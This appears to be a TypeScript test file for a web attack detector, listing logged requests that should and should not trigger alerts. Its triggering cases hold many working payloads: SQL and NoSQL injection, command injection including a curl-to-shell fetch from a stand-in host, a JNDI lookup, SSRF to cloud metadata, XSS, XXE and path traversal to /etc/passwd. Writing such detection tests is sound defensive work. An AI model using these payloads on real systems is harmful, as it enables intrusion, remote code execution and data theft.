import { defineStreamCases, type CaseObservation } from '#model/stream-cases.ts';

const source = { src_endpoint: { ip: '203.0.113.9' } };

/** A request as an access log tells of it. */
function request(target: string, { status = 200, agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0', from = '203.0.113.9' } = {}): CaseObservation {
  const [path = '', ...rest] = target.split('?');
  return {
    logsource: { product: 'webserver', category: 'webserver' },
    event: {
      class_uid: 4002, src_endpoint: { ip: from },
      http_request: { http_method: 'GET', url: { path, query_string: rest.join('?'), url_string: target, hostname: 'shop.example' }, user_agent: agent }, http_response: { code: status },
    },
  };
}

/** A request as a firewall for applications tells of it: with headers and body. */
function posted(body: string, contentType: string, headers: readonly { readonly name: string; readonly value: string }[] = []): CaseObservation {
  return {
    logsource: { product: 'aws', service: 'waf', category: 'webserver' },
    event: {
      class_uid: 4002, ...source,
      http_request: { http_method: 'POST', url: { path: '/api/items' }, http_headers: [{ name: 'Content-Type', value: contentType }, ...headers], body }, http_response: { code: 200 },
    },
  };
}

const shop = '/product?lang=en&id=';

export default defineStreamCases({
  fires: [
    { name: 'a quote, a tautology and a comment', observations: [request(`${shop}1%27%20OR%201%3D1--%20-`)] },
    { name: 'union select in disguise', observations: [request(`${shop}-1+%2f*!50000UnIoN*/+%2f**/SeLeCt+1,2,@@version%23`)] },
    { name: 'encoded twice', observations: [request(`${shop}1%2527%2520and%2520sleep(5)%2523`)] },
    { name: 'a statement stacked on a number', observations: [request(`${shop}7;WAITFOR%20DELAY%20%270:0:5%27--`)] },
    { name: 'a command behind a separator', observations: [request('/ping?host=127.0.0.1;cat%20/etc/hosts')] },
    { name: 'a substitution with a broken-up name', observations: [request('/ping?host=$(c%27%27url%20http://198.51.100.7/a.sh|sh)')] },
    { name: 'a script in a search', observations: [request('/search?q=%22%3E%3Csvg/onload=alert(1)%3E')] },
    { name: 'a climb in overlong UTF-8', observations: [request('/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd')] },
    { name: 'a stream of PHP', observations: [request('/index.php?page=php://filter/convert.base64-encode/resource=config')] },
    { name: 'a template that calculates', observations: [request('/hello?name=%7B%7B7*7%7D%7D')] },
    { name: 'a lookup built from lookups, in the user agent', observations: [request('/', { agent: '${${lower:j}${::-n}di:ldap://198.51.100.7/a}' })] },
    { name: 'the metadata of the machine, as one number', observations: [request('/fetch?url=http://2852039166/latest/meta-data/')] },
    { name: 'a line break and a header', observations: [request('/go?to=/home%0d%0aSet-Cookie:%20admin=1')] },
    { name: 'an operator in the name of a parameter', observations: [request('/login?user=admin&password[$ne]=x')] },
    { name: 'an operator in JSON', observations: [posted('{"user":"admin","password":{"$gt":""}}', 'application/json')] },
    { name: 'an external entity', observations: [posted('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>', 'application/xml')], signals: 1 },
    { name: 'a serialised object in a cookie', observations: [posted('a=1', 'application/x-www-form-urlencoded', [{ name: 'Cookie', value: 'state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' }])] },
    { name: 'a part of a multipart form', observations: [posted('--b\r\nContent-Disposition: form-data; name="note"\r\n\r\n<img src=x onerror=alert(1)>\r\n--b--', 'multipart/form-data; boundary=b')] },
    { name: 'a scanner that says so', observations: [request('/', { agent: 'Mozilla/5.00 (Nikto/2.5.0)' })] },
    { name: 'a probe for a file', observations: [request('/.git/config', { status: 404 })] },
    { name: 'many attempts tell of the first, the tenth and the hundredth', observations: Array.from({ length: 120 }, (_, at) => request(`${shop}${at}%27%20or%20${at}=${at}--`, { status: 403 })), signals: 3 },
    { name: 'an error of the server after refusals is news', observations: [request(`${shop}1%27or%201=1--`, { status: 403 }), request(`${shop}1%27or%202=2--`, { status: 403 }), request(`${shop}1%27or%203=3--`, { status: 500 })], signals: 2 },
    { name: 'two sources are two', observations: [request(`${shop}1%27or%201=1--`), request(`${shop}1%27or%201=1--`, { from: '203.0.113.10' })], signals: 2 },
  ],
  silent: [
    { name: 'a name with an apostrophe', observations: [request("/people?name=O'Brien&town=L'Hospitalet")] },
    { name: 'words of SQL in prose', observations: [request('/search?q=please+select+a+union+rep+from+the+list+and+drop+me+a+line')] },
    { name: 'a question about code', observations: [request('/search?q=how%20to%20use%20sleep(5)%20in%20php')] },
    { name: 'an address as a value', observations: [request('/login?next=https%3A%2F%2Fshop.example%2Fcart%3Fa%3D1%26b%3D2')] },
    { name: 'Markdown with a command', observations: [posted(JSON.stringify({ text: 'Run `npm install` first, **then** see [the page](https://example.com/).' }), 'application/json')] },
    { name: 'markup of an editor', observations: [posted('text=%3Cp%3EHello%20%3Cem%3Eworld%3C%2Fem%3E%20%26amp%3B%20all%3C%2Fp%3E', 'application/x-www-form-urlencoded')] },
    { name: 'ordinary cookies and headers', observations: [posted('{}', 'application/json', [{ name: 'Cookie', value: 'sid=s%3Aabc.def; theme=dark; _ga=GA1.2.1.2' }, { name: 'Accept', value: '*/*;q=0.5' }, { name: 'Sec-CH-UA', value: '"Chromium";v="126", "Not/A)Brand";v="8"' }])] },
    { name: 'operators in the filters of a content system', observations: [request('/api/articles?filters[title][$eq]=hello&populate[author][fields][0]=name')] },
    { name: 'a query of a monitoring system', observations: [request('/api/v1/query?query=sum(rate(requests_total%7Bjob%3D%22api%22%2Cstatus%3D~%225..%22%7D%5B5m%5D))%20by%20(instance)')] },
    { name: 'a password of odd characters', observations: [posted('user=anna&password=P%40ss%27w%220rd%3B--%26x', 'application/x-www-form-urlencoded')] },
    { name: 'an event of another class', observations: [{ logsource: {}, event: { class_uid: 3002, ...source, user: { name: "' or 1=1--" } } }] },
    { name: 'a request without an address', observations: [{ logsource: { category: 'webserver' }, event: { class_uid: 4002, ...source } }] },
  ],
});
